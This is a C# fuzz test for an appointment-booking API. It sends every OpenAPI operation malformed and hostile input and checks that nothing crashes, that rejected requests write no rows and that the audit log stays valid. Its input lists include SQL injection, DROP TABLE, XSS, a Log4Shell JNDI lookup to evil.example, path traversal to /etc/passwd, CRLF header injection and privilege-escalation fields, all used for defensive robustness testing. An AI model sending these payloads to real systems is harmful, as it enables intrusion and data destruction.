using System.Data.Common;
using System.Net;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using FairShot.Domain;
using FairShot.Tests.Features;
using FairShot.Tests.Infrastructure;
using Microsoft.EntityFrameworkCore;

namespace FairShot.Tests.Reliability;

/// <summary>
/// Every operation of /openapi/v1.json, read from the running app, sent generated bad input:
/// malformed JSON, wrong types, huge, unicode and injection strings, out-of-range dates and numbers,
/// missing and extra fields, bad path and query values — with an admin token on admin routes and a
/// live session on the resident ones, so the input reaches the handler. No answer is a 5xx, a
/// rejected request (4xx) writes no row to the tables that hold the registry, and the audit chain
/// verifies at the end.
/// </summary>
[Collection(ReliabilityCollection.Name)]
public sealed class OpenApiFuzzTests(ITestOutputHelper output) : IAsyncLifetime
{
    private readonly FairShotApp _app = new();

    public ValueTask InitializeAsync() => _app.InitializeAsync();

    public async ValueTask DisposeAsync() => await _app.DisposeAsync();

    private static readonly string[] Injections =
    [
        "' OR '1'='1", "\"; DROP TABLE \"People\"; --", "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "../../../../etc/passwd",
        "{{7*7}}", "https://evil.example/rebook", "%00%0d%0aSet-Cookie: x=1",
    ];

    private static readonly string[] Unicode = ["Zoë 💉 Ω", "Mar\u200bta", "\u202egnp.exe", "a\u0000b", "\ud83d", "ﷺ𒐫", "\u0085\u2028\u2029", new string('é', 300)];

    private static readonly string Huge = new('A', 200_000);

    /// <summary>Rows in the tables a rejected request must not touch, in one query.</summary>
    private static readonly string[] Counted =
    [
        "People", "Appointments", "Clinics", "ClinicDays", "Slots", "Invitations", "InvitationSessions", "AppointmentSessions", "Outbox",
        "IdempotencyRecords", "OneTimeCodes", "Rosters", "RosterMembers", "SecondDoseReservations", "AuditEntries",
    ];

    private async Task<string> SnapshotAsync()
    {
        var sql = "SELECT " + string.Join(" || ',' || ", Counted.Select(t => $"CAST((SELECT COUNT(*) FROM \"{t}\") AS TEXT)"))
            + " || ',' || CAST((SELECT COALESCE(SUM(\"Booked\"), 0) FROM \"Slots\") AS TEXT) || ',' || CAST((SELECT COUNT(*) FROM \"Invitations\" WHERE \"UsedAt\" IS NOT NULL) AS TEXT)";
        return await _app.WithDbAsync(async db =>
        {
            var connection = db.Database.GetDbConnection();
            await connection.OpenAsync();
            await using DbCommand command = connection.CreateCommand();
            command.CommandText = sql;
            return (string)(await command.ExecuteScalarAsync())!;
        });
    }

    private static string Diff(string before, string after)
    {
        var names = Counted.Append("SUM(Slots.Booked)").Append("Invitations used").ToArray();
        var b = before.Split(',');
        var a = after.Split(',');
        return string.Join(", ", names.Select((n, i) => b[i] == a[i] ? null : $"{n} {b[i]}→{a[i]}").Where(x => x is not null));
    }

    private sealed record Probe(string Method, string Path, string What, HttpContent? Content, string? Bearer, string? IdempotencyKey);

    [Fact]
    public async Task EveryOpenApiOperation_GeneratedBadInput_No5xx_NothingHalfWritten_AuditChainValid()
    {
        // Real things for the routes to find, so bad input reaches the handlers.
        var flow = new InvitationFlow(_app);
        var (clinicId, dayId, day) = await flow.ClinicDayAsync(slots: 4, perSlot: 5);
        var slotId = day.GetProperty("slots")[0].GetProperty("id").GetString()!;
        var invitees = await ReliabilitySeed.InviteesAsync(_app, dayId, 3, "fuzz");
        var bookedClient = _app.CreateClient();
        bookedClient.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", invitees[0].Session);
        var confirmation = (await (await InvitationFlow.BookAsync(bookedClient, invitees[0].Token, slotId)).JsonAsync(HttpStatusCode.Created)).GetProperty("confirmationCode").GetString()!;
        var manage = Invitation.NewToken();
        await _app.WithDbAsync(async db =>
        {
            var appointment = await db.Appointments.SingleAsync(a => a.ConfirmationCode == confirmation);
            db.AppointmentSessions.Add(new AppointmentSession(appointment.Id, Invitation.HashToken(manage), _app.Clock.GetUtcNow().UtcDateTime));
            return await db.SaveChangesAsync();
        });
        var adminToken = (await _app.CreateStaffClientAsync()).DefaultRequestHeaders.Authorization!.Parameter!;

        var doc = JsonNode.Parse(await (await _app.CreateClient().GetAsync("/openapi/v1.json")).Content.ReadAsStringAsync())!;
        var schemas = doc["components"]?["schemas"];
        string PathValue(string route, string name) => name switch
        {
            "token" => invitees[1].Token,
            "confirmationCode" => confirmation,
            "code" => "1a",
            "clinicId" => clinicId,
            "personId" => invitees[1].PersonId.ToString(),
            "id" when route.Contains("/clinic-days/", StringComparison.Ordinal) => dayId,
            "id" when route.Contains("/registrations/", StringComparison.Ordinal) || route.Contains("/people/", StringComparison.Ordinal) => invitees[1].PersonId.ToString(),
            "id" when route.Contains("/invitations/", StringComparison.Ordinal) => invitees[2].InvitationId.ToString(),
            _ => Guid.NewGuid().ToString(), // staff and waves: never the admin's own account
        };
        string? BearerFor(string route) =>
            route.StartsWith("/api/v1/admin", StringComparison.Ordinal) ? adminToken
            : route.StartsWith("/api/v1/invitations", StringComparison.Ordinal) ? invitees[1].Session
            : route.StartsWith("/api/v1/appointments", StringComparison.Ordinal) ? manage
            : null;

        var probes = new List<Probe>();
        var operations = 0;
        foreach (var path in doc["paths"]!.AsObject())
        {
            foreach (var (method, operation) in path.Value!.AsObject().Where(o => o.Key is "get" or "post" or "put" or "patch" or "delete"))
            {
                operations++;
                var verb = method.ToUpperInvariant();
                var parameters = operation!["parameters"]?.AsArray().Select(p => p!).ToList() ?? [];
                var pathNames = parameters.Where(p => (string?)p["in"] == "path").Select(p => (string)p["name"]!).ToList();
                string Route(Func<string, string>? bad = null)
                {
                    var route = path.Key;
                    foreach (var name in pathNames)
                    {
                        route = route.Replace("{" + name + "}", Uri.EscapeDataString(bad?.Invoke(name) ?? PathValue(path.Key, name)), StringComparison.Ordinal);
                    }
                    return route;
                }
                var bearer = BearerFor(path.Key);
                var key = path.Key.EndsWith("/appointments", StringComparison.Ordinal) && verb == "POST" ? Guid.NewGuid().ToString() : null;
                void Add(string what, string route, HttpContent? content, string? idempotencyKey = null) =>
                    probes.Add(new Probe(verb, route, what, content, bearer, idempotencyKey ?? (key is null ? null : Guid.NewGuid().ToString())));

                // Bad path values: injection, unicode, huge.
                foreach (var name in pathNames)
                {
                    // (NUL is left out of paths: the test host refuses it before the app, as Kestrel answers 400.)
                    foreach (var bad in Injections.Take(3).Concat(Unicode.Take(4)).Where(v => !v.Contains('\0', StringComparison.Ordinal)).Append(new string('9', 5000)))
                    {
                        Add($"path {name}={Shorten(bad)}", Route(n => n == name ? bad : PathValue(path.Key, n)), Json("{}"));
                    }
                }
                // Bad query values.
                foreach (var query in parameters.Where(p => (string?)p["in"] == "query").Select(p => (string)p["name"]!))
                {
                    foreach (var bad in new[] { "", "x", "-1", "2147483648", "9999-12-01", "0001-01-01", "2027-02-30", "1e999", "[]", Huge[..10_000] }.Concat(Injections.Take(3)).Concat(Unicode.Take(4)).Where(v => !v.Contains('\0', StringComparison.Ordinal)))
                    {
                        Add($"query {query}={Shorten(bad)}", Route() + "?" + query + "=" + Uri.EscapeDataString(bad), null);
                    }
                }
                if (key is not null)
                {
                    Add("Idempotency-Key huge", Route(), Json($"{{\"slotId\":\"{slotId}\"}}"), new string('k', 5000));
                    Add("Idempotency-Key unicode", Route(), Json($"{{\"slotId\":\"{Guid.NewGuid()}\"}}"), "ключ-\u202e-💉");
                }
                if (verb is "GET" or "DELETE")
                {
                    continue;
                }
                // Malformed bodies.
                foreach (var raw in new[] { "{", "{\"a\":", "[", "nul", "\"text\"", "42", "[]", "null", "", "{\"" + Huge + "\":1}", new string('[', 5000) + new string(']', 5000), "{\"a\":1,\"a\":2}" })
                {
                    Add($"body {Shorten(raw)}", Route(), Json(raw));
                }
                Add("body invalid UTF-8", Route(), new ByteArrayContent([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d]) { Headers = { ContentType = new MediaTypeHeaderValue("application/json") } });
                Add("body as text/plain", Route(), new StringContent("{}", Encoding.UTF8, "text/plain"));
                // Schema-driven: a plausible body, then each field missing, of the wrong type, huge, unicode, injected, out of range; and extra fields.
                var schema = Resolve(operation["requestBody"]?["content"]?["application/json"]?["schema"], schemas);
                if (schema is null)
                {
                    continue;
                }
                var plausible = Plausible(schema, schemas, slotId, 0);
                if (plausible is not JsonObject fields)
                {
                    Add("body wrong top-level type", Route(), Json("{\"x\":1}"));
                    continue;
                }
                var extra = (JsonObject)fields.DeepClone();
                extra["__proto__"] = new JsonObject { ["isAdmin"] = true };
                extra["isAdmin"] = true;
                extra["id"] = Guid.NewGuid().ToString();
                extra["state"] = "Booked";
                Add("body extra fields", Route(), Json(extra.ToJsonString()));
                foreach (var name in fields.Select(f => f.Key).ToList())
                {
                    var missing = (JsonObject)fields.DeepClone();
                    missing.Remove(name);
                    Add($"{name} missing", Route(), Json(missing.ToJsonString()));
                    JsonNode?[] values =
                    [
                        null, 123, true, new JsonObject(), new JsonArray(), Huge, 2147483648L, 1.5, "9999-12-01", "2027-02-30", "NotAnEnumValue",
                        .. Injections.Take(3).Select(s => (JsonNode?)s), .. Unicode.Take(4).Select(s => (JsonNode?)s),
                    ];
                    foreach (var value in values)
                    {
                        var changed = (JsonObject)fields.DeepClone();
                        changed[name] = value?.DeepClone();
                        Add($"{name}={Shorten(value?.ToJsonString() ?? "null")}", Route(), Json(changed.ToJsonString()));
                    }
                }
            }
        }

        var serverErrors = new List<string>();
        var halfWritten = new List<string>();
        var statuses = new Dictionary<int, int>();
        var before = await SnapshotAsync();
        foreach (var probe in probes)
        {
            using var client = _app.CreateClient();
            using var request = new HttpRequestMessage(new HttpMethod(probe.Method), probe.Path) { Content = probe.Content };
            if (probe.Bearer is not null)
            {
                request.Headers.Authorization = new AuthenticationHeaderValue("Bearer", probe.Bearer);
            }
            if (probe.IdempotencyKey is not null)
            {
                request.Headers.TryAddWithoutValidation("Idempotency-Key", probe.IdempotencyKey);
            }
            var response = await client.SendAsync(request);
            var status = (int)response.StatusCode;
            statuses[status] = statuses.GetValueOrDefault(status) + 1;
            var body = await response.Content.ReadAsStringAsync();
            var after = await SnapshotAsync();
            var what = $"{probe.Method} {Shorten(probe.Path, 120)} [{probe.What}]";
            if (status >= 500)
            {
                var logged = _app.Logs.Lines.LastOrDefault(l => l.Contains("Exception", StringComparison.Ordinal)) ?? "";
                serverErrors.Add($"{what} → {status} {Shorten(body, 300)}\n  request body: {Shorten(probe.Content is null ? "" : await probe.Content.ReadAsStringAsync(), 600)}\n  logged: {Shorten(logged, 1500)}");
            }
            else if (status >= 400 && after != before)
            {
                halfWritten.Add($"{what} → {status}: {Diff(before, after)}");
            }
            before = after;
        }

        output.WriteLine($"{probes.Count} requests to {operations} operations: " + string.Join(", ", statuses.OrderBy(s => s.Key).Select(s => $"{s.Key}: {s.Value}")));
        foreach (var line in serverErrors.Concat(halfWritten))
        {
            output.WriteLine(line);
        }
        Assert.True(operations >= 30, $"Only {operations} operations in the API document.");
        Assert.True(serverErrors.Count == 0, $"{serverErrors.Count} answers 5xx:\n" + string.Join("\n", serverErrors.Take(30)));
        Assert.True(halfWritten.Count == 0, $"{halfWritten.Count} rejected requests wrote rows:\n" + string.Join("\n", halfWritten.Take(30)));
        await _app.SealAuditLogAsync();
        var verify = await (await (await _app.CreateStaffClientAsync()).GetAsync("/api/v1/admin/audit/verify")).JsonAsync();
        Assert.True(verify.GetProperty("valid").GetBoolean(), verify.ToString());
    }

    private static StringContent Json(string text) => new(text, Encoding.UTF8, "application/json");

    private static string Shorten(string text, int length = 40) => text.Length > length ? text[..length] + $"…({text.Length})" : text;

    private static JsonNode? Resolve(JsonNode? schema, JsonNode? schemas)
    {
        for (var i = 0; i < 5 && schema?["$ref"] is { } reference; i++)
        {
            schema = schemas?[((string)reference!).Split('/')[^1]];
        }
        return schema;
    }

    /// <summary>A value the schema would accept, or near enough (the app's own validation decides the rest).</summary>
    private static JsonNode? Plausible(JsonNode schema, JsonNode? schemas, string slotId, int depth)
    {
        schema = Resolve(schema, schemas)!;
        if (schema["enum"] is JsonArray values && values.Count > 0)
        {
            return values[0]?.DeepClone();
        }
        var type = schema["type"] switch
        {
            JsonArray types => types.Select(t => (string?)t).FirstOrDefault(t => t != "null"),
            JsonValue one => (string?)one,
            _ => schema["properties"] is not null ? "object" : null,
        };
        if ((schema["oneOf"] ?? schema["anyOf"]) is JsonArray choices && type is null)
        {
            var first = choices.Select(c => Resolve(c, schemas)).FirstOrDefault(c => (string?)c?["type"] != "null");
            return first is null ? null : Plausible(first, schemas, slotId, depth);
        }
        return type switch
        {
            "object" when depth < 4 => new JsonObject((schema["properties"]?.AsObject() ?? [])
                .Select(p => KeyValuePair.Create(p.Key, Named(p.Key, slotId) ?? Plausible(p.Value!, schemas, slotId, depth + 1)))),
            "array" when depth < 4 && schema["items"] is { } items => new JsonArray(Plausible(items, schemas, slotId, depth + 1)),
            "integer" => 1,
            "number" => 1,
            "boolean" => true,
            "string" => (string?)schema["format"] switch
            {
                "date" => "2027-03-01",
                "date-time" => "2027-03-01T10:00:00Z",
                "uuid" => Guid.NewGuid().ToString(),
                "time" => "09:00",
                _ => "fuzz",
            },
            _ => null,
        };
    }

    private static JsonNode? Named(string property, string slotId) => property switch
    {
        "slotId" => slotId,
        "email" => $"{Guid.NewGuid():N}@example.org",
        "cvxCode" => "212",
        "timeZone" => "America/Chicago",
        "opensAt" => "09:00",
        "closesAt" => "10:00",
        "dateOfBirth" => "1980-01-01",
        _ => null,
    };
}
